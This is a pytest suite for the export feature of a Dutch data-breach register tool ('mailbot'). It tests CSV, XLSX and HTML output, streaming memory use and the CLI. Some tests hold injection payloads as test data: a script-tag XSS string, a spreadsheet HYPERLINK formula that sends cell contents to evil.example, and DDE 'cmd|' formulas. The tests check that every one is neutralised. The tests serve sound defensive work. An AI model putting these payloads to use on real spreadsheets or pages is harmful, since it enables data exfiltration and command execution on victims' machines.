"""The register exported in all three formats and read back as an auditor's tools would."""

from __future__ import annotations

import base64
import csv
import io
import json
import os
import subprocess
import sys
from datetime import UTC, date, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter
from sqlalchemy import insert

from mailbot.cli.main import main
from mailbot.model import db
from mailbot.model.cases import ap_deadline
from mailbot.model.models import Case
from mailbot.model.services import Services
from mailbot.register.entry import COLUMNS
from mailbot.register.export import ExportError, Selection, export
from tests.offline import make_case, offline_services

NOW = datetime(2026, 6, 1, 12, 0, tzinfo=UTC)
T1 = datetime(2026, 3, 2, 8, 30, tzinfo=UTC)  # 09:30 in Amsterdam


def _register(svc: Services) -> None:
    make_case(svc, T1, worked=True, closed=T1 + timedelta(days=20))  # notified after 30 hours: on time
    make_case(svc, T1 + timedelta(days=10), worked=True, notified=T1 + timedelta(days=14))  # 4 days: late
    make_case(svc, T1 + timedelta(days=40), description="<script>alert('x')</script> & <b>vet</b>")  # open, overdue


def _export(svc: Services, fmt: str, language: str = "nl", selection: Selection | None = None) -> bytes:
    out = io.BytesIO()
    export(
        svc.engine, fmt, out, selection=selection or Selection(), tz=svc.settings.timezone, now=NOW,
        language=language, renderer=svc.renderer, title="Datalekregister Woonstichting Voorbeeld",
    )  # fmt: skip
    return out.getvalue()


def _csv(data: bytes, delimiter: str = ";") -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig")), delimiter=delimiter))


def test_csv_has_the_register_columns_in_dutch(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    _, svc = offline_services(tmp_path, monkeypatch)
    _register(svc)
    data = _export(svc, "csv")
    assert data.startswith(b"\xef\xbb\xbf"), "a byte-order mark, so Excel reads the accents"
    rows = _csv(data)
    assert list(rows[0]) == [c.nl for c in COLUMNS]
    first, late, fresh = rows
    assert first["Kenmerk"] == "DL-2026-0001"
    assert first["Ontvangen"] == "02-03-2026 09:30" and first["Deadline AP"] == "05-03-2026 09:30"
    assert first["Samenvatting"] == "Huurderslijst naar verkeerde ontvanger"
    assert first["Soorten persoonsgegevens"] == "naam, adres, BSN"
    assert (first["Aantal betrokkenen"], first["Aantal records"], first["Groep betrokkenen"]) == (
        "120",
        "120",
        "huurders",
    )
    assert first["Ernst (score)"] == "3,25" and first["Ernst"] == "hoog" and first["Risico"] == "hoog risico"
    assert (first["Melden AP"], first["Meldnummer AP"], first["Binnen 72 uur"]) == ("ja", "M-2026-1234", "tijdig")
    assert first["Gemeld bij AP"] == "03-03-2026 15:30"
    assert first["Betrokkenen informeren"] == "ja" and first["Betrokkenen geïnformeerd"] == "04-03-2026 09:30"
    assert first["Advies FG"] == "melden (fg@example.org)"
    assert first["Besluit bestuur"] == "melden bij AP en huurders (directeur@example.org)"
    assert first["Gesloten"] == "22-03-2026 09:30" and first["Fase"] == "archiveren"
    assert late["Binnen 72 uur"] == "te laat" and late["Gesloten"] == ""
    assert fresh["Binnen 72 uur"] == "te laat, nog niet gemeld" and fresh["Risico"] == "" and fresh["Melden AP"] == ""
    assert fresh["Samenvatting"] == "<script>alert('x')</script> & <b>vet</b>", "CSV carries the text as written"


def test_english_headers_and_values(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    _, svc = offline_services(tmp_path, monkeypatch, MAILBOT_LANGUAGE="en")
    _register(svc)
    rows = _csv(_export(svc, "csv", "en"), ",")
    assert list(rows[0]) == [c.en for c in COLUMNS]
    assert rows[0]["Received"] == "2026-03-02 09:30" and rows[0]["Severity (score)"] == "3.25"
    assert (rows[0]["Severity"], rows[0]["Risk"], rows[0]["Notify AP"]) == ("high", "high risk", "yes")
    assert rows[1]["Within 72 hours"] == "late"


def test_xlsx_opens_with_frozen_header_filters_widths_real_dates_and_counts(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _, svc = offline_services(tmp_path, monkeypatch)
    _register(svc)
    path = tmp_path / "register.xlsx"
    path.write_bytes(_export(svc, "xlsx"))
    ws = load_workbook(path).active
    assert ws is not None and ws.title == "Datalekregister"
    assert ws.freeze_panes == "B2"
    header = [c.value for c in ws[1]]
    assert header == [c.nl for c in COLUMNS]
    assert all(c.font.b for c in ws[1])
    received = ws.cell(row=2, column=header.index("Ontvangen") + 1)
    assert received.value == datetime(2026, 3, 2, 9, 30) and received.is_date
    assert received.number_format == "dd-mm-yyyy hh:mm"
    assert ws.cell(row=2, column=header.index("Ernst (score)") + 1).value == 3.25
    assert ws.column_dimensions["G"].width == 50  # the summary column is wide
    assert ws.max_row == 4
    # A count can be summed and sorted; the officer filters the register on any column.
    for column in ("Aantal betrokkenen", "Aantal records"):
        cell = ws.cell(row=2, column=header.index(column) + 1)
        assert (cell.data_type, cell.value) == ("n", 120), column
    assert ws.auto_filter.ref == f"A1:{get_column_letter(len(COLUMNS))}4"


FORMULAS = {
    "=": '=HYPERLINK("https://evil.example/?"&A3&B3,"details")',
    "+": "+31 6 12345678",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
    "＝": "＝1+1",
    " ": "  =1+1",
}


def _formula_case(svc: Services) -> None:
    """A case whose every text from a mail starts like a formula: the report, the answers and
    what the officer copied from them into the assessment."""
    texts = iter(FORMULAS.values())
    case = make_case(svc, T1, description=next(texts), worked=True)
    with db.session(svc.engine) as s:
        c = s.get(Case, case.id)
        assert c is not None
        answers = {"data_types": next(texts), "affected_count": next(texts), "affected_group": next(texts)}
        c.answers = json.dumps({**json.loads(c.answers), **answers, "cause": next(texts)})
        assessment = {"nature": next(texts), "consequences": next(texts), "measures": next(texts)}
        c.assessment = json.dumps({**json.loads(c.assessment), **assessment, "summary": "", "categories": ""})
        c.ap_delay_reason = "=1+1"
        s.add(c)
        s.commit()


FORMULA_COLUMNS = {
    "Samenvatting": FORMULAS["="],
    "Soorten persoonsgegevens": FORMULAS["+"],
    "Aantal betrokkenen": FORMULAS["-"],
    "Groep betrokkenen": FORMULAS["@"],
    "Oorzaak": FORMULAS["\t"],
    "Aard van het datalek": FORMULAS["\r"],
    "Gevolgen": FORMULAS["＝"],
    "Maatregelen": FORMULAS[" "],
    "Reden vertraging": "=1+1",
}


def test_csv_text_from_a_mail_never_starts_a_formula(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Every text cell that starts like a formula (= + - @ tab CR, fullwidth ＝, or = after
    spaces) gets OWASP's leading quote; the value is otherwise kept, dates and numbers as ever."""
    _, svc = offline_services(tmp_path, monkeypatch)
    _formula_case(svc)
    (row,) = _csv(_export(svc, "csv"))
    for column, text in FORMULA_COLUMNS.items():
        assert row[column] == "'" + text, column
    assert row["Ontvangen"] == "02-03-2026 09:30" and row["Kenmerk"] == "DL-2026-0001"


def test_xlsx_text_from_a_mail_is_a_text_cell(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """No cell of the workbook is a formula; text keeps its value exactly; the dates the product
    computed stay date cells and the score a number."""
    _, svc = offline_services(tmp_path, monkeypatch)
    _formula_case(svc)
    path = tmp_path / "register.xlsx"
    path.write_bytes(_export(svc, "xlsx"))
    ws = load_workbook(path).active
    assert ws is not None
    assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    header = [c.value for c in ws[1]]
    for column, text in FORMULA_COLUMNS.items():
        cell = ws.cell(row=2, column=header.index(column) + 1)
        assert (cell.data_type, cell.value) == ("s", text), column
    received = ws.cell(row=2, column=header.index("Ontvangen") + 1)
    assert received.value == datetime(2026, 3, 2, 9, 30), "a date cell, read back as a datetime"
    assert isinstance(ws.cell(row=2, column=header.index("Ernst (score)") + 1).value, float)


def test_xlsx_takes_control_characters_a_workbook_cannot_hold(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A report with a control character in it does not stop the export of the whole register."""
    _, svc = offline_services(tmp_path, monkeypatch)
    make_case(svc, T1, description="lijst\x01met\x1bnamen")
    path = tmp_path / "register.xlsx"
    path.write_bytes(_export(svc, "xlsx"))
    ws = load_workbook(path).active
    assert ws is not None
    header = [c.value for c in ws[1]]
    assert ws.cell(row=2, column=header.index("Samenvatting") + 1).value == "lijst\ufffdmet\ufffdnamen"


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.cells: list[str] = []
        self.text: list[str] = []
        self._in_td = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self._in_td = tag == "td"
        if self._in_td:
            self.cells.append("")

    def handle_endtag(self, tag: str) -> None:
        if tag == "td":
            self._in_td = False

    def handle_data(self, data: str) -> None:
        self.text.append(data)
        if self._in_td:
            self.cells[-1] += data


def test_html_is_one_self_contained_escaped_page_with_a_summary(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _, svc = offline_services(tmp_path, monkeypatch)
    _register(svc)
    data = _export(svc, "html").decode()
    page = _Page()
    page.feed(data)
    names = [t for t, _ in page.tags]
    assert "script" not in names and "link" not in names and "iframe" not in names
    # The overview's three charts on top, inside the page itself: nothing is fetched from anywhere.
    sources = [a for _, attrs in page.tags for k, a in attrs.items() if k in ("src", "href")]
    assert names.count("img") == len(sources) == 3
    for source in sources:
        assert source is not None and source.startswith("data:image/png;base64,")
        assert base64.b64decode(source.removeprefix("data:image/png;base64,")).startswith(b"\x89PNG")
    alts = [attrs["alt"] for t, attrs in page.tags if t == "img"]
    assert alts == ["meldingen per maand", "ernst en 72 uur", "open meldingen"]
    assert data.index("<img") < data.index("DL-2026-0001"), "the charts above the register"
    assert "<script>alert" not in data and "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt; &amp; &lt;b&gt;" in data
    assert "<b>vet</b>" not in data
    assert "<script>alert('x')</script> & <b>vet</b>" in page.cells, "shown as text, exactly as written"
    text = " ".join(" ".join(page.text).split())
    assert "Datalekregister Woonstichting Voorbeeld" in text
    for label, count in (("Meldingen", 3), ("Gemeld bij de AP", 2), ("&nbsp;&nbsp;binnen 72 uur", 1),
                         ("&nbsp;&nbsp;te laat", 1), ("deadline verstreken, nog geen besluit", 1)):  # fmt: skip
        assert f"<tr><th>{label}</th><td>{count}</td></tr>" in data
    for label, count in (("ontdekken", 1), ("melden", 1), ("archiveren", 1), ("kwalificeren", 0)):
        assert f"<tr><td>{label}</td><td>{count}</td></tr>" in data
    for label, count in (("hoog risico", 2), ("nog niet beoordeeld", 1), ("geen risico", 0)):
        assert f"<tr><td>{label}</td><td>{count}</td></tr>" in data
    assert "DL-2026-0003" in page.cells and "@media print" in data


def test_selection_by_dates_and_status(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    _, svc = offline_services(tmp_path, monkeypatch)
    _register(svc)

    def kenmerken(selection: Selection) -> list[str]:
        return [r["Kenmerk"] for r in _csv(_export(svc, "csv", selection=selection))]

    assert kenmerken(Selection(since=date(2026, 3, 12))) == ["DL-2026-0002", "DL-2026-0003"]
    assert kenmerken(Selection(until=date(2026, 3, 12))) == ["DL-2026-0001", "DL-2026-0002"]
    assert kenmerken(Selection(since=date(2026, 3, 2), until=date(2026, 3, 2))) == ["DL-2026-0001"]
    assert kenmerken(Selection(status="open")) == ["DL-2026-0002", "DL-2026-0003"]
    assert kenmerken(Selection(status="gesloten")) == ["DL-2026-0001"]
    assert kenmerken(Selection(status="melden")) == ["DL-2026-0002"]
    with pytest.raises(ExportError, match="--status 'later' is not a status; choose one of: open, gesloten"):
        kenmerken(Selection(status="later"))


def _bulk(svc: Services, n: int) -> None:
    """Many plain cases at once (Core insert: the point here is the export, not the opening)."""
    t = Case.__table__  # type: ignore[attr-defined]
    rows = [
        dict(kenmerk=f"DL-2025-{i:05d}", year=2025, seq=i, mailbox="default", reporter_address="m@example.org",
             subject=f"beveiligingsincident {i}", description="Brief met medische gegevens verkeerd bezorgd. " * 5,
             received_at=T1, aware_at=T1, ap_deadline_at=ap_deadline(T1), created_at=T1)
        for i in range(1, n + 1)
    ]  # fmt: skip
    with svc.engine.begin() as conn:
        conn.execute(insert(t), rows)


@pytest.fixture(scope="module")
def registers(tmp_path_factory: pytest.TempPathFactory) -> dict[int, Path]:
    """Two registers, of 1,000 and 10,000 cases, each with its .env."""
    envs = {}
    with pytest.MonkeyPatch.context() as monkeypatch:
        for n in (1000, 10000):
            env, svc = offline_services(tmp_path_factory.mktemp(f"register{n}"), monkeypatch)
            _bulk(svc, n)
            envs[n] = env
    return envs


# A child's peak RSS starts from its parent's at fork, so the export runs under a small
# launcher, which reports its child's peak.
_LAUNCH = (
    "import resource, subprocess, sys; subprocess.run(sys.argv[1:], check=True, stdout=subprocess.DEVNULL); "
    "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)"
)


def _export_rss(env: Path, fmt: str, out: Path) -> float:
    """Peak RSS (MB) of ``mailbot export`` in a process of its own, as a user runs it."""
    clean = {k: v for k, v in os.environ.items() if not k.startswith("MAILBOT_")}
    cmd = [sys.executable, "-m", "mailbot", "--config", str(env), "export", "--format", fmt, "-o", str(out)]
    done = subprocess.run([sys.executable, "-c", _LAUNCH, *cmd], env=clean, capture_output=True, text=True, check=True)
    return int(done.stdout.strip()) / 1024


@pytest.mark.parametrize("fmt", ["csv", "html"])
def test_a_large_register_streams(registers: dict[int, Path], tmp_path: Path, fmt: str) -> None:
    """10,000 cases take no more memory to export than 1,000: they are never held all at once
    (held, they would add some 40 MB)."""
    small, large = tmp_path / f"small.{fmt}", tmp_path / f"large.{fmt}"
    rss_small, rss_large = _export_rss(registers[1000], fmt, small), _export_rss(registers[10000], fmt, large)
    # Counted in rows: the html page's charts weigh the same whatever the number of cases.
    assert large.read_bytes().count(b"DL-") > 9 * small.read_bytes().count(b"DL-")
    assert rss_large < rss_small + 10, (rss_small, rss_large)


def test_cli_export_to_a_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    env, svc = offline_services(tmp_path, monkeypatch)
    _register(svc)
    out = tmp_path / "register.xlsx"
    assert main(["--config", str(env), "export", "--format", "xlsx", "--status", "open", "-o", str(out)]) == 0
    assert f"2 case(s) written as xlsx to {out}" in capsys.readouterr().err
    ws = load_workbook(out).active
    assert ws is not None and [r[0].value for r in ws.iter_rows(min_row=2)] == ["DL-2026-0002", "DL-2026-0003"]
    with pytest.raises(SystemExit, match="--from '1-3-2026' is not a date; write it as YYYY-MM-DD"):
        main(["--config", str(env), "export", "--from", "1-3-2026"])


def test_the_register_shows_the_tier_facts_and_reasons(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from mailbot.register.entry import entry

    _, svc = offline_services(tmp_path, monkeypatch)
    case = make_case(svc, T1, worked=True)
    case.assessment = json.dumps({**json.loads(case.assessment), "deletion_confirmed": "ja", "backup": "nee"})
    row = entry(case, svc.settings.timezone, NOW)
    assert (row["deletion_confirmed"], row["backup"], row["encrypted"], row["tier"]) == (
        "ja",
        "nee",
        "nee",
        "geen risico",
    )
    assert "de bekende ontvanger heeft bevestigd dat de gegevens zijn verwijderd" in row["tier_reasons"].splitlines()
    assert (
        "the known recipient confirmed the data was deleted"
        in entry(case, svc.settings.timezone, NOW, "en")["tier_reasons"]
    )
